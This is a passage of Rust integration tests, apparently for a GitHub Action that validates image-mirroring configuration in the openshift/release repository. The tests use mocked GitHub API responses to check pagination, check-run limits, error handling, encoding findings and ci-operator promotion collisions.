        (old_path, base_sha, mapping),
        (MAPPING, head_sha, head_mapping.as_str()),
    ] {
        api.mount(
            Mock::given(method("GET"))
                .and(url_path(format!(
                    "/repos/openshift/release/contents/{path}"
                )))
                .and(query_param("ref", sha))
                .respond_with(FileAnswer::new(path, text.as_bytes()))
                .expect(1),
        );
    }
    // Two pages: the rename is on the second.
    let files = "/repos/openshift/release/pulls/7/files";
    let next = format!(
        "<{}{files}?per_page=100&page=2>; rel=\"next\"",
        api.server.uri()
    );
    api.mount(
        Mock::given(method("GET"))
            .and(url_path(files))
            .and(query_param("page", "2"))
            .respond_with(ResponseTemplate::new(200).set_body_json(files_json(&[(
                MAPPING,
                "renamed",
                Some(old_path),
            )])))
            .expect(1),
    );
    api.mount(
        Mock::given(method("GET"))
            .and(url_path(files))
            .respond_with(
                ResponseTemplate::new(200)
                    .insert_header("link", next.as_str())
                    .set_body_json(files_json(&[("README.md", "modified", None)])),
            )
            .expect(1),
    );
    let dir = tempfile::tempdir().unwrap();
    let event = serde_json::json!({"pull_request": {
        "number": 7,
        "base": {"sha": base_sha, "repo": {"full_name": "openshift/release"}},
        "head": {"sha": head_sha, "repo": {"full_name": "someone/release"}},
    }});
    let event_path = dir.path().join("event.json");
    std::fs::write(&event_path, serde_json::to_vec(&event).unwrap()).unwrap();
    let (code, stdout, stderr) = run_without_git(
        &event_path,
        dir.path(),
        &api,
        &[("QCI_NETWORK_CHECKS", "false")],
    );
    assert_eq!(code, Some(1), "{stdout}{stderr}");
    let errors: Vec<(u32, String)> = annotated(&stdout, MAPPING)
        .into_iter()
        .filter(|(level, _, _)| level == "error")
        .map(|(_, line, code)| (line, code))
        .collect();
    // Only the appended line is new: the moved lines are compared with the old path's.
    assert_eq!(errors, [(11, "mapping-line-added".to_owned())], "{stdout}");
    assert_eq!(api.requests().len(), 6);
}

#[test]
fn a_branch_behind_main_answers_only_for_its_own_changes() {
    // Main has since removed `ci/old-hub:v1` and a mapping line; the pull request, branched
    // before, still carries both and adds one entry and one mapping line at the top.
    let base = "supplementalCIImages:\n  ci/a:v1:\n    image: quay.io/org/a:v1\n  ci/old-hub:v1:\n    image: nginx:1.25\n";
    let head = "supplementalCIImages:\n  ci/new:v1:\n    image: quay.io/org/new:v1\n  ci/a:v1:\n    image: quay.io/org/a:v1\n  ci/old-hub:v1:\n    image: nginx:1.25\n";
    let main_now = "supplementalCIImages:\n  ci/a:v1:\n    image: quay.io/org/a:v1\n";
    let line =
        |n: u32| format!("quay.io/org/m{n}:v1 registry.ci.openshift.org/openshift/m{n}:v1\n");
    let mapping_base = line(1) + &line(2);
    let mapping_head = line(3) + &line(1) + &line(2);
    let pr = pull_request_of_files(
        &[(CONFIG, base), (MAPPING, &mapping_base)],
        &[(CONFIG, Some(head)), (MAPPING, Some(&mapping_head))],
        &[(CONFIG, main_now), (MAPPING, &line(1))],
        true,
    );
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    let errors: Vec<String> = annotations(&stdout)
        .into_iter()
        .filter(|a| a.starts_with("::error "))
        // The command and its properties, without the message.
        .map(|a| a.splitn(3, "::").take(2).collect::<Vec<_>>().join("::"))
        .collect();
    assert_eq!(
        errors,
        [format!(
            "::error file={MAPPING},line=1,endLine=1,col=1,endColumn=60,title=qci-mirror%3A mapping-line-added"
        )],
        "{stdout}"
    );
    // What main removed is still reported where the branch has it, but not as the PR's doing.
    assert!(
        stdout.contains(&format!(
            "::warning file={CONFIG},line=7,endLine=7,col=12,endColumn=22,title=qci-mirror%3A docker-hub-source::"
        )),
        "{stdout}"
    );
    let outputs = std::fs::read_to_string(&pr.output).unwrap();
    assert!(
        outputs.contains("changed-targets=[\"quay.io/openshift/ci:ci_new_v1\"]\n"),
        "{outputs}"
    );
}

#[test]
fn the_test_parser_reads_what_the_runner_reads() {
    use support::runner::commands;
    let log = "text\n  ::error file=a%2Cb,title=T::x%0Ay\nplain ##[set-output name=x;]y\n::stop-commands::tok\n::error::hidden\n::tok::\n::bogus::z\n::warning::w\r\n";
    let found = commands(log);
    let names: Vec<&str> = found.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, ["error", "set-output", "stop-commands", "warning"]);
    assert_eq!(found[0].properties["file"], "a,b");
    assert_eq!(found[0].data, "x\ny");
    assert!(found[1].legacy);
}

fn check_run_requests(api: &Api) -> Vec<(String, serde_json::Value)> {
    api.requests()
        .iter()
        .filter(|r| r.method != wiremock::http::Method::GET)
        .map(|r| {
            (
                r.method.to_string(),
                serde_json::from_slice(&r.body).unwrap(),
            )
        })
        .collect()
}

fn mount_checks(api: &Api, pr: &Pr) {
    api.mount(
        Mock::given(url_path("/repos/openshift/release/check-runs"))
            .respond_with(support::action::ChecksApi::new(4242, &pr.head_sha)),
    );
    api.mount(
        Mock::given(url_path("/repos/openshift/release/check-runs/4242"))
            .respond_with(support::action::ChecksApi::new(4242, &pr.head_sha)),
    );
}

#[test]
fn check_run_fields_are_cut_to_githubs_limits_before_they_are_sent() {
    // A 70 KB image reference makes a finding whose message quotes it whole.
    let head = format!(
        "{BASE}  ci/long:v1:\n    image: \"quay.io/org/{}:v1\"\n",
        "Ab".repeat(35_000)
    );
    let pr = pull_request(&head, false);
    let api = Api::start();
    mount_checks(&api, &pr);
    let (code, stdout, stderr) = run(&env(&pr, &api, &[("QCI_CHECK_NAME", &"n".repeat(300))]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(stdout.contains("published check run"), "{stdout}");
    let sent = check_run_requests(&api);
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(support::action::ChecksApi::refusal(&sent[0].1), None);
    let message = sent[0].1["output"]["annotations"][0]["message"]
        .as_str()
        .unwrap();
    assert!(
        message.len() > 60_000 && message.ends_with('…'),
        "{}",
        message.len()
    );
}

#[test]
fn a_failed_creation_is_sent_once_and_the_log_is_annotated_instead() {
    let pr = pull_request(HEAD_WITH_PROBLEMS, false);
    let api = Api::start();
    api.mount(
        Mock::given(method("POST"))
            .and(url_path("/repos/openshift/release/check-runs"))
            .respond_with(
                ResponseTemplate::new(500)
                    .set_body_json(serde_json::json!({"message": "Server Error"})),
            ),
    );
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    // A POST that failed may still have created the check run: repeating it could make two.
    assert_eq!(check_run_requests(&api).len(), 1);
    assert!(
        stdout.contains("::warning title=qci-mirror::the check run could not be created: GitHub API request failed: Server Error (500 Internal Server Error); annotating the log instead"),
        "{stdout}"
    );
    let on_lines = annotations(&stdout)
        .iter()
        .filter(|a| a.contains(" file="))
        .count();
    assert_eq!(on_lines, 2, "{stdout}");
}

#[test]
fn a_refused_update_is_said_and_the_log_is_annotated_instead() {
    let pr = pull_request(&with_new_hub_entries(119), false);
    let api = Api::start();
    api.mount(
        Mock::given(method("POST"))
            .and(url_path("/repos/openshift/release/check-runs"))
            .respond_with(support::action::ChecksApi::new(4242, &pr.head_sha)),
    );
    api.mount(
        Mock::given(method("PATCH"))
            .and(url_path("/repos/openshift/release/check-runs/4242"))
            .respond_with(ResponseTemplate::new(403).set_body_json(
                serde_json::json!({"message": "Resource not accessible by integration"}),
            )),
    );
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(
        stdout.contains("the check run holds only 50 of its 120 annotations: GitHub refused the request (403): Resource not accessible by integration; annotating the log instead"),
        "{stdout}"
    );
    let on_lines = annotations(&stdout)
        .iter()
        .filter(|a| a.contains(" file="))
        .count();
    assert_eq!(on_lines, 11, "10 errors and the old warning\n{stdout}");
}

#[test]
fn at_most_1000_annotations_go_to_the_check_run_in_20_requests() {
    let pr = pull_request(&with_new_hub_entries(1_100), false);
    let api = Api::start();
    mount_checks(&api, &pr);
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    let sent = check_run_requests(&api);
    assert_eq!(sent.len(), 20);
    assert_eq!(sent.iter().filter(|(m, _)| m == "POST").count(), 1);
    let annotated: usize = sent
        .iter()
        .map(|(_, b)| b["output"]["annotations"].as_array().unwrap().len())
        .sum();
    assert_eq!(annotated, 1_000);
    let summary = sent[0].1["output"]["summary"].as_str().unwrap();
    assert!(
        summary
            .contains("The first 1000 are annotated here; 101 more are in the job summary only."),
        "{summary}"
    );
}

#[test]
fn a_github_api_that_never_answers_ends_the_step_with_a_clear_error() {
    let pr = pull_request(HEAD_WITH_PROBLEMS, false);
    let api = Api::start();
    api.mount(
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(200).set_delay(std::time::Duration::from_secs(120)))
            .with_priority(1),
    );
    let started = std::time::Instant::now();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[("QCI_TIMEOUT", "1")]));
    let took = started.elapsed();
    assert_eq!(code, 2, "{stdout}{stderr}");
    assert!(took < std::time::Duration::from_secs(30), "{took:?}");
    assert!(stderr.starts_with("::error title=qci-mirror::"), "{stderr}");
    assert!(stderr.contains("GitHub"), "{stderr}");
}

#[test]
fn a_config_that_is_not_utf8_is_a_finding_on_it_with_git_and_without() {
    let pr = pull_request(HEAD_WITH_PROBLEMS, true);
    // A new head whose config holds a Latin-1 byte, and the merge commit of it.
    let git = support::action::git;
    git(&pr.workspace, &["checkout", "-q", "pr"]);
    let mut bytes = BASE.as_bytes().to_vec();
    bytes.extend_from_slice(b"  ci/caf\xe9:v1:\n    image: quay.io/org/cafe:v1\n");
    std::fs::write(pr.workspace.join(CONFIG), &bytes).unwrap();
    git(&pr.workspace, &["commit", "-q", "-am", "latin-1"]);
    let head = git(&pr.workspace, &["rev-parse", "HEAD"]);
    git(&pr.workspace, &["checkout", "-q", "--detach", &pr.base_sha]);
    git(&pr.workspace, &["merge", "-q", "--no-edit", "pr"]);
    let merge = git(&pr.workspace, &["rev-parse", "HEAD"]);
    let mut event: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&pr.event_path).unwrap()).unwrap();
    event["pull_request"]["head"]["sha"] = head.clone().into();
    std::fs::write(&pr.event_path, serde_json::to_vec(&event).unwrap()).unwrap();

    let path = std::env::var("PATH").unwrap();
    for with_git in [true, false] {
        let api = Api::start();
        let mut extra = vec![("GITHUB_SHA", merge.as_str())];
        if with_git {
            extra.push(("PATH", path.as_str()));
        }
        let (code, stdout, stderr) = run(&env(&pr, &api, &extra));
        assert_eq!(code, 1, "with git: {with_git}\n{stdout}{stderr}");
        let on_config: Vec<&str> = annotations(&stdout)
            .into_iter()
            .filter(|a| {
                a.contains("invalid-encoding") && a.contains(&format!("file={CONFIG},line=6"))
            })
            .collect();
        assert_eq!(on_config.len(), 1, "with git: {with_git}\n{stdout}");
        assert!(on_config[0].starts_with("::error "), "{}", on_config[0]);
    }
}

const OC_MAIN: &str = "ci-operator/config/openshift/oc/openshift-oc-main.yaml";

/// `ocp/4.21:tools` was mirrored before; the pull request adds `ocp/4.21:cli` (line 6). The
/// real `openshift-oc-main.yaml` promotes both (its `promotion:` is on line 104).
fn pull_request_colliding_with_a_promotion() -> Pr {
    let base = "\
supplementalCIImages:
  ci/a:v1:
    image: quay.io/org/a:v1
  ocp/4.21:tools:
    image: quay.io/org/tools:v1
";
    let head = format!("{base}  ocp/4.21:cli:\n    image: quay.io/org/cli:v1\n");
    let oc_main = std::fs::read_to_string(format!("tests/fixtures/{OC_MAIN}")).unwrap();
    let oc_main: &'static str = Box::leak(oc_main.into_boxed_str());
    pull_request_of_files(
        &[(CONFIG, base), (OC_MAIN, oc_main)],
        &[(CONFIG, Some(head.as_str()))],
        &[],
        true,
    )
}

#[test]
fn an_added_key_that_ci_operator_promotes_fails_and_an_old_one_only_warns() {
    let pr = pull_request_colliding_with_a_promotion();
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    let found = annotations(&stdout);
    assert_eq!(found.len(), 2, "{stdout}");
    assert!(
        found[0].starts_with(&format!(
            "::error file={CONFIG},line=6,endLine=6,col=3,endColumn=15,title=qci-mirror%3A target-promoted::`ocp/4.21:cli` would overwrite a tag promoted by {OC_MAIN}:104;"
        )),
        "{}",
        found[0]
    );
    assert!(
        found[1].starts_with(&format!(
            "::warning file={CONFIG},line=4,endLine=4,col=3,endColumn=17,title=qci-mirror%3A target-promoted::`ocp/4.21:tools` would overwrite a tag promoted by {OC_MAIN}:104;"
        )),
        "{}",
        found[1]
    );
    assert!(
        stdout.contains(
            "qci-mirror: 7 promoted tags from 1 ci-operator configs under `ci-operator/config`\n"
        ),
        "{stdout}"
    );
}

#[test]
fn without_ci_operator_configs_the_rule_is_skipped_with_one_note() {
    let pr = pull_request(&with_new_hub_entries(0), true);
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert_eq!(
        stdout
            .matches("qci-mirror: note: no `ci-operator/config` in the workspace")
            .count(),
        1,
        "{stdout}"
    );
}

#[test]
fn a_ci_operator_config_input_outside_the_workspace_or_missing_stops_the_step() {
    let pr = pull_request_colliding_with_a_promotion();
    let api = Api::start();
    let outside = env(&pr, &api, &[("QCI_CI_OPERATOR_CONFIG", "..")]);
    let (code, _, stderr) = run(&outside);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("ci_operator_config `..` resolves to")
            && stderr.contains("outside the workspace"),
        "{stderr}"
    );
    let missing = env(&pr, &api, &[("QCI_CI_OPERATOR_CONFIG", "no/such")]);
    let (code, _, stderr) = run(&missing);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("ci_operator_config `no/such` does not exist in the workspace"),
        "{stderr}"
    );
}
